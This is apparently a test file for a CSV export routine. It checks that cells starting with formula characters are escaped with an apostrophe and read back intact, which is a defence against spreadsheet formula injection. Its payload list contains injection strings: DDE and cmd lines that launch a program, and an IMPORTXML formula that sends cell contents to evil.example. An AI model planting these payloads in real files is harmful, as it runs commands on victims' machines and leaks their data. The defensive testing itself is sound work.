import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvCell, csvLine, unmarkCell } from './csv.ts'

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', "'"]
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'SUM(1+1)*cmd|x',
  '1+1',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '2,5";=1+1',
  '@SUM(1)',
]
/** Every dangerous beginning before every body, some of them behind what nobody sees. */
const payloads = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  ...[' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u2060＝1', ' \t@x', '\u0001=1', '\r\n=1'],
]

/** Texts of nothing but what is marked and what it is marked behind. */
const hostile = fc.string({
  unit: fc.constantFrom("'", ';', '=', '-', '\t', '\r', '\n', '\0', ' ', 'a', '"', ',', '\u200b'),
  maxLength: 12,
})

/** Reads one line back as a spreadsheet does: quotes are taken off, doubled ones are one. */
function readLine(line: string): string[] {
  const cells: string[] = []
  const body = line.slice(0, -2)
  let at = 0
  do {
    if (body[at] === '"') {
      let text = ''
      for (at++; at < body.length; at++) {
        if (body[at] !== '"') text += body[at]
        else if (body[at + 1] === '"') text += body[at++]
        else break
      }
      cells.push(text)
      at++
    } else {
      const end = body.indexOf(',', at) < 0 ? body.length : body.indexOf(',', at)
      cells.push(body.slice(at, end))
      at = end
    }
    at++
  } while (at <= body.length)
  return cells
}

describe(`C72 a cell of an export (${payloads.length} payloads)`, () => {
  it('counts at least a hundred payloads', () => expect(payloads.length).toBeGreaterThanOrEqual(100))

  it.each(payloads)('%j is read as text, and back as it was', (payload) => {
    const [read, beside] = readLine(csvLine([payload, 'beside']))
    expect(read).toMatch(/^'/)
    expect(unmarkCell(read ?? '')).toBe(payload)
    expect(beside).toBe('beside')
  })

  it.each([
    'Casa, "La Buena"',
    'a; b',
    "O'Higgins; S.A.",
    'two\nlines',
    'C-000001',
    '2026-11-03',
    '82.50',
    '',
  ])('%j stays what it is', (text) => expect(readLine(csvLine([text]))).toEqual([text]))

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a\t@x', "a\t'@x"],
    ['two\r\n-2', "two\r\n'-2"],
    ["a;'b", "a;''b"],
  ])('%j is marked inside too, for whoever opens it by another separator', (text, read) => {
    expect(readLine(csvLine([text]))).toEqual([read])
    expect(unmarkCell(read)).toBe(text)
  })

  it('of any text comes back exactly, and never begins a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'grapheme', maxLength: 30 }), hostile), { minLength: 1 }),
        (texts) => {
          const read = readLine(csvLine(texts))
          expect(read.map(unmarkCell)).toEqual(texts)
          for (const cell of read) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n\0]/u)
        },
      ),
    )
    expect(csvCell('=1')).toBe("'=1")
  })
})
